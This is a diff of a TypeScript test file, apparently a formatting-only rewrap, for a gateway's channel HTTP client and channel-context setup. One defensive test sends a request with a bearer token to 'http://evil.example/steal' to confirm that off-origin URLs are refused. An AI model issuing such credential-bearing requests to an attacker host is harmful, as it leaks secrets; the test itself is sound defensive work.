@@ -19,7 +19,11 @@ beforeAll(async () => {
       const more = (): void => {
         while (sent < 12 && res.write(block)) sent += 1;
         if (sent >= 12) res.end();
-        else res.once('drain', () => { sent += 1; more(); });
+        else
+          res.once('drain', () => {
+            sent += 1;
+            more();
+          });
       };
       more();
       res.on('error', () => undefined);
@@ -62,7 +66,10 @@ describe('channel HTTP', () => {
   it('refuses any URL off the channel origin, so the key cannot leave it', async () => {
     const http = createChannelHttp({ baseUrl: origin });
     const before = seen.length;
-    expect(await http.request({ method: 'GET', path: 'http://evil.example/steal', headers: { authorization: 'Bearer k' } })).toEqual({ kind: 'not_sent', reason: 'URL off the channel origin refused' });
+    expect(await http.request({ method: 'GET', path: 'http://evil.example/steal', headers: { authorization: 'Bearer k' } })).toEqual({
+      kind: 'not_sent',
+      reason: 'URL off the channel origin refused',
+    });
     expect(seen.length).toBe(before);
     await http.close();
   });
@@ -82,13 +89,24 @@ describe('channel contexts', () => {
     const { createChannelContexts } = await import('../../src/channels/context.js');
     const { createChannelMedia } = await import('../../src/channels/media.js');
     const config = parseChannelsConfig(
-      JSON.stringify({ channels: { up: { protocol: 'mediagate', base_url: `${origin}/`, api_key_env: 'UP_KEY' } }, routes: [{ model: '*', to: [{ channel: 'up', upstream_model: 'm2' }, { channel: 'sandbox' }] }] }),
+      JSON.stringify({
+        channels: { up: { protocol: 'mediagate', base_url: `${origin}/`, api_key_env: 'UP_KEY' } },
+        routes: [{ model: '*', to: [{ channel: 'up', upstream_model: 'm2' }, { channel: 'sandbox' }] }],
+      }),
       { UP_KEY: 'secret-up' },
     );
-    const contexts = createChannelContexts(config, { media: createChannelMedia(), log: { debug: () => undefined, info: () => undefined, warn: () => undefined } });
+    const contexts = createChannelContexts(config, {
+      media: createChannelMedia(),
+      log: { debug: () => undefined, info: () => undefined, warn: () => undefined },
+    });
     const [up, sandbox] = config.targetsFor('vendora/famw-2.7-t2v');
     const ctx = contexts.forTarget(up!);
-    expect({ channel: ctx.channel, baseUrl: ctx.baseUrl, apiKey: ctx.apiKey, upstreamModel: ctx.upstreamModel }).toEqual({ channel: 'up', baseUrl: origin, apiKey: 'secret-up', upstreamModel: 'm2' });
+    expect({ channel: ctx.channel, baseUrl: ctx.baseUrl, apiKey: ctx.apiKey, upstreamModel: ctx.upstreamModel }).toEqual({
+      channel: 'up',
+      baseUrl: origin,
+      apiKey: 'secret-up',
+      upstreamModel: 'm2',
+    });
     expect(contexts.forTarget(up!).http).toBe(ctx.http);
     expect(() => contexts.forTarget(sandbox!)).toThrow(/sandbox/);
     expect(await ctx.http.request({ method: 'GET', path: '/text' })).toMatchObject({ kind: 'response', status: 502 });
